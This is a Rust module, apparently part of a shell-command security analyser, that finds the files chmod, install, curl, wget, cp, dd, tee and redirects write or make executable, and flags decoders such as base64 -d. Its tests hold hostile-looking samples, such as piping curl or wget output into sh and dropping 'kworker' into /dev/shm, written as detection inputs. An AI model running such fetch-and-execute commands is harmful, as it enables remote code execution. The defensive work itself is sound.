//! The files a command writes or makes executable: `chmod`, `install`, and the
//! download tools' output files, read from a parsed invocation.

use super::decoding::{Decoding, decoding_of};
use super::{Invocation, basename};
use crate::shell::Redirect;

/// Whether a chmod mode grants execute permission: octal with an x bit, or a
/// symbolic clause adding or setting `x`/`X` (`+x`, `u+x`, `a=rwx`, `755`).
pub fn mode_grants_exec(mode: &str) -> bool {
    if !mode.is_empty() && mode.bytes().all(|b| (b'0'..=b'7').contains(&b)) {
        return u32::from_str_radix(mode, 8).is_ok_and(|m| m & 0o111 != 0);
    }
    mode.split(',').any(|clause| {
        let ops = clause.trim_start_matches(['u', 'g', 'o', 'a']);
        // One or more `[+-=]perms` actions.
        let mut adding = false;
        let mut any = false;
        for c in ops.chars() {
            match c {
                '+' | '=' => adding = true,
                '-' => adding = false,
                'x' | 'X' if adding => any = true,
                'r' | 'w' | 'x' | 'X' | 's' | 't' | 'u' | 'g' | 'o' => {}
                _ => return false,
            }
        }
        any
    })
}

/// The files `chmod [OPTION]… MODE FILE…` makes executable.
pub fn chmod_targets(words: &[String]) -> Vec<String> {
    let mut mode: Option<&str> = None;
    let mut files = Vec::new();
    let mut options_done = false;
    for w in &words[1..] {
        let w = w.as_str();
        if !options_done {
            if w == "--" {
                options_done = true;
                continue;
            }
            if w.starts_with("--reference") {
                return Vec::new();
            }
            if w.starts_with("--") {
                continue;
            }
            // `-R`, `-v`, `-f`, `-c` are options; `-x`, `-w` are modes that remove.
            if mode.is_none()
                && w.starts_with('-')
                && w[1..].bytes().all(|b| b"RvfcH LP".contains(&b))
            {
                continue;
            }
        }
        if mode.is_none() {
            mode = Some(w);
        } else {
            files.push(w.to_string());
        }
    }
    match mode {
        Some(m) if mode_grants_exec(m) => files,
        _ => Vec::new(),
    }
}

/// The destination files of `install`: executable unless `-m` says otherwise
/// (install's default mode is 0755); `-d` creates directories only.
pub fn install_targets(words: &[String]) -> Vec<String> {
    let mut mode = "755".to_string();
    let mut target_dir: Option<String> = None;
    let mut operands: Vec<String> = Vec::new();
    let mut i = 1;
    while i < words.len() {
        let w = words[i].as_str();
        match w {
            "-d" | "--directory" => return Vec::new(),
            "-m" | "--mode" => {
                mode = words.get(i + 1).cloned().unwrap_or_default();
                i += 1;
            }
            "-t" | "--target-directory" => {
                target_dir = words.get(i + 1).cloned();
                i += 1;
            }
            "-o" | "-g" | "--owner" | "--group" | "-S" | "--suffix" => i += 1,
            _ if w.starts_with("--mode=") => mode = w[7..].to_string(),
            _ if w.starts_with("--target-directory=") => target_dir = Some(w[19..].to_string()),
            _ if w.starts_with("-m") && w.len() > 2 => mode = w[2..].to_string(),
            _ if w.starts_with('-') && w.len() > 1 => {}
            _ => operands.push(w.to_string()),
        }
        i += 1;
    }
    if !mode_grants_exec(&mode) {
        return Vec::new();
    }
    match target_dir {
        Some(dir) => operands
            .iter()
            .map(|src| format!("{}/{}", dir.trim_end_matches('/'), basename(src)))
            .collect(),
        None if operands.len() >= 2 => {
            // `install SRC DEST`: DEST is a file (or a directory, then DEST/SRC).
            let dest = &operands[operands.len() - 1];
            if operands.len() == 2 {
                vec![
                    dest.clone(),
                    format!("{}/{}", dest.trim_end_matches('/'), basename(&operands[0])),
                ]
            } else {
                operands[..operands.len() - 1]
                    .iter()
                    .map(|src| format!("{}/{}", dest.trim_end_matches('/'), basename(src)))
                    .collect()
            }
        }
        None => Vec::new(),
    }
}

/// Where a download tool writes: `curl -o F` / `--output F` / `-O` (the URL's
/// name), `wget -O F` / `--output-document=F` / `-P DIR` / by default the URL's name,
/// `-o F` for the others (fetch, aria2c, tftp …), and a shell redirection of the
/// tool's output (`curl URL > F`).
pub fn download_targets(inv: &Invocation) -> Vec<String> {
    download_targets_of(&inv.words, &inv.redirects)
}

/// [`download_targets`] of the command `words` with its `redirects` (an exec's
/// argv: none), no [`Invocation`] needed.
pub fn download_targets_of(words: &[String], redirects: &[Redirect]) -> Vec<String> {
    let prog = words.first().map_or("", |w| basename(w));
    // The option that names the output file, and the one that takes the name from the URL.
    let (out_short, remote_short) = match prog {
        "curl" => ('o', Some('O')),
        "wget" => ('O', None),
        _ => ('o', None),
    };
    let mut out = Vec::new();
    let mut urls: Vec<&str> = Vec::new();
    let mut remote_name = prog == "wget";
    let mut dir: Option<&str> = None;
    let push = |f: &str, out: &mut Vec<String>| {
        if f != "-" && !f.is_empty() {
            out.push(f.to_string());
        }
    };
    let mut i = 1;
    while i < words.len() {
        let w = words[i].as_str();
        let next = words.get(i + 1).map(String::as_str);
        if let Some((name, value)) = w.strip_prefix("--").and_then(|l| l.split_once('=')) {
            match name {
                "output" | "output-document" => {
                    push(value, &mut out);
                    remote_name = false;
                }
                "directory-prefix" | "dir" => dir = Some(value),
                _ => {}
            }
        } else if let Some(long) = w.strip_prefix("--") {
            match long {
                "output" | "output-document" => {
                    if let Some(f) = next {
                        push(f, &mut out);
                    }
                    remote_name = false;
                    i += 1;
                }
                "remote-name" | "remote-name-all" if prog == "curl" => remote_name = true,
                "directory-prefix" | "dir" => {
                    dir = next;
                    i += 1;
                }
                _ => {}
            }
        } else if let Some(flags) = w.strip_prefix('-').filter(|f| !f.is_empty()) {
            // Short options, possibly combined (`-sSLo F`, `-qO-`, `-oF`).
            for (pos, c) in flags.char_indices() {
                if c == out_short {
                    let attached = &flags[pos + c.len_utf8()..];
                    if attached.is_empty() {
                        if let Some(f) = next {
                            push(f, &mut out);
                        }
                        i += 1;
                    } else {
                        push(attached, &mut out);
                    }
                    remote_name = false;
                    break;
                }
                if Some(c) == remote_short {
                    remote_name = true;
                } else if prog == "wget" && c == 'P' {
                    let attached = &flags[pos + 1..];
                    if attached.is_empty() {
                        dir = next;
                        i += 1;
                    } else {
                        dir = Some(attached);
                    }
                    break;
                }
            }
        } else if w.contains("://") {
            urls.push(w);
        }
        i += 1;
    }
    let redirected = redirects
        .iter()
        .filter(|r| {
            matches!(r.op.as_str(), ">" | ">>" | ">|" | "&>") && matches!(r.fd, None | Some(1))
        })
        .map(|r| r.target.clone())
        .collect::<Vec<_>>();
    if remote_name && out.is_empty() && (prog != "wget" || redirected.is_empty()) {
        for u in &urls {
            let path = u.split(['?', '#']).next().unwrap_or(u);
            let after_scheme = path.split_once("://").map_or(path, |(_, rest)| rest);
            if let Some((_, file)) = after_scheme.rsplit_once('/') {
                if !file.is_empty() {
                    out.push(match dir {
                        Some(d) => format!("{}/{file}", d.trim_end_matches('/')),
                        None => file.to_string(),
                    });
                }
            }
        }
    }
    out.extend(redirected);
    out
}

/// The files `cp`, `mv` and `ln` write, each with the source it came from:
/// `cp SRC DEST`, `cp SRC… DIR`, `-t DIR SRC…`. With two operands DEST may be a
/// directory: both `DEST` and `DEST/basename(SRC)` are given.
pub fn copy_targets(words: &[String]) -> Vec<(String, String)> {
    let mut target_dir: Option<String> = None;
    let mut operands: Vec<&str> = Vec::new();
    let mut options_done = false;
    let mut i = 1;
    while i < words.len() {
        let w = words[i].as_str();
        if options_done || !w.starts_with('-') || w == "-" {
            operands.push(w);
        } else if w == "--" {
            options_done = true;
        } else if w == "-t" || w == "--target-directory" {
            target_dir = words.get(i + 1).cloned();
            i += 1;
        } else if let Some(dir) = w.strip_prefix("--target-directory=") {
            target_dir = Some(dir.to_string());
        } else if matches!(w, "-S" | "--suffix") {
            i += 1;
        }
        i += 1;
    }
    let into = |dir: &str, src: &str| format!("{}/{}", dir.trim_end_matches('/'), basename(src));
    match target_dir {
        Some(dir) => operands
            .iter()
            .map(|src| (src.to_string(), into(&dir, src)))
            .collect(),
        None if operands.len() == 2 => {
            let (src, dest) = (operands[0], operands[1]);
            let mut out = vec![(src.to_string(), into(dest, src))];
            if !dest.ends_with('/') {
                out.push((src.to_string(), dest.to_string()));
            }
            out
        }
        None if operands.len() > 2 => {
            let dest = operands[operands.len() - 1];
            operands[..operands.len() - 1]
                .iter()
                .map(|src| (src.to_string(), into(dest, src)))
                .collect()
        }
        None => Vec::new(),
    }
}

/// A device or descriptor rather than a file a payload could be written to
/// (`/dev/null`, `/dev/stdout`); the tmpfs mounts under /dev are places.
fn is_device(path: &str) -> bool {
    path.starts_with("/dev/") && !path.starts_with("/dev/shm/") && !path.starts_with("/dev/mqueue/")
}

/// The file `dd of=FILE` writes.
pub fn dd_targets(words: &[String]) -> Vec<String> {
    words[1..]
        .iter()
        .filter_map(|w| w.strip_prefix("of="))
        .filter(|f| !f.is_empty() && !is_device(f))
        .map(str::to_string)
        .collect()
}

/// The files `tee [-a] FILE…` writes.
pub fn tee_targets(words: &[String]) -> Vec<String> {
    words[1..]
        .iter()
        .filter(|w| !w.starts_with('-') && !is_device(w))
        .cloned()
        .collect()
}

/// The files a shell redirection of the command writes (`> F`, `>> F`, `&> F`),
/// devices and file descriptors aside.
pub fn redirect_targets(inv: &Invocation) -> Vec<String> {
    inv.redirects
        .iter()
        .filter(|r| matches!(r.op.as_str(), ">" | ">>" | ">|" | "&>" | "&>>"))
        .filter(|r| !r.target.is_empty() && !is_device(&r.target))
        .filter(|r| !r.target.chars().all(|c| c.is_ascii_digit() || c == '-'))
        .map(|r| r.target.clone())
        .collect()
}

/// `base64 -d`, `xxd -r`, `openssl enc -d`: decodes a payload.
pub fn is_decoder(inv: &Invocation) -> bool {
    argv_is_decoder(&inv.words)
}

/// [`is_decoder`] of the command `words`, no [`Invocation`] needed.
pub fn argv_is_decoder(words: &[String]) -> bool {
    let prog = words.first().map_or("", |w| basename(w));
    let args = words.get(1..).unwrap_or_default();
    decoding_of(prog, args).is_some_and(Decoding::is_text_decoder)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::command::{self, CommandRules};
    use crate::rules::Rules;

    fn words(s: &[&str]) -> Vec<String> {
        s.iter().map(|w| w.to_string()).collect()
    }

    #[test]
    fn chmod_modes_and_operands() {
        for m in [
            "+x",
            "u+x",
            "a+rx",
            "755",
            "0755",
            "0700",
            "u=rwx,go=rx",
            "ug+rwX",
            "+rwxs",
        ] {
            assert!(mode_grants_exec(m), "{m}");
        }
        for m in ["644", "-x", "a-x", "u=rw", "go-w", "0600", "", "+r", "x"] {
            assert!(!mode_grants_exec(m), "{m}");
        }
        assert_eq!(
            chmod_targets(&words(&["chmod", "+x", "/tmp/a", "b"])),
            ["/tmp/a", "b"]
        );
        assert_eq!(chmod_targets(&words(&["chmod", "-R", "755", "d"])), ["d"]);
        assert_eq!(chmod_targets(&words(&["chmod", "--", "+x", "f"])), ["f"]);
        assert!(chmod_targets(&words(&["chmod", "-x", "f"])).is_empty());
        assert!(chmod_targets(&words(&["chmod", "644", "f"])).is_empty());
        assert!(chmod_targets(&words(&["chmod", "--reference=/bin/ls", "f"])).is_empty());
    }

    #[test]
    fn install_destinations() {
        assert_eq!(
            install_targets(&words(&["install", "-m", "755", "a", "/tmp/b"])),
            ["/tmp/b", "/tmp/b/a"]
        );
        assert_eq!(
            install_targets(&words(&["install", "-t", "/tmp/d", "x", "y"])),
            ["/tmp/d/x", "/tmp/d/y"]
        );
        assert!(install_targets(&words(&["install", "-m644", "a", "/tmp/b"])).is_empty());
        assert!(install_targets(&words(&["install", "-d", "/tmp/dir"])).is_empty());
    }

    #[test]
    fn download_outputs() {
        let rules: CommandRules = Rules::embedded().section("commands").unwrap();
        let outputs = |text: &str| -> Vec<String> {
            command::from_shell_text(text, &rules)
                .iter()
                .filter(|i| matches!(i.program(), "curl" | "wget"))
                .flat_map(download_targets)
                .collect()
        };
        assert_eq!(outputs("curl -sSLo /tmp/x http://e/a"), ["/tmp/x"]);
        assert_eq!(outputs("curl -o/tmp/x http://e/a"), ["/tmp/x"]);
        assert_eq!(outputs("curl --output /tmp/x http://e/a"), ["/tmp/x"]);
        assert_eq!(outputs("curl -O http://e/p/agent?x=1"), ["agent"]);
        assert_eq!(outputs("curl -s http://e/a > /tmp/y"), ["/tmp/y"]);
        assert_eq!(outputs("wget -q http://e/dl/kworker"), ["kworker"]);
        assert_eq!(outputs("wget -O /dev/shm/k http://e/a"), ["/dev/shm/k"]);
        assert_eq!(
            outputs("wget --output-document=/tmp/k http://e/a"),
            ["/tmp/k"]
        );
        assert_eq!(outputs("wget -P /var/tmp http://e/a.sh"), ["/var/tmp/a.sh"]);
        assert!(outputs("curl -s http://e/a | sh").is_empty());
        assert!(outputs("wget -qO- http://e/a | sh").is_empty());
        assert!(outputs("curl http://e/").is_empty());
    }
}
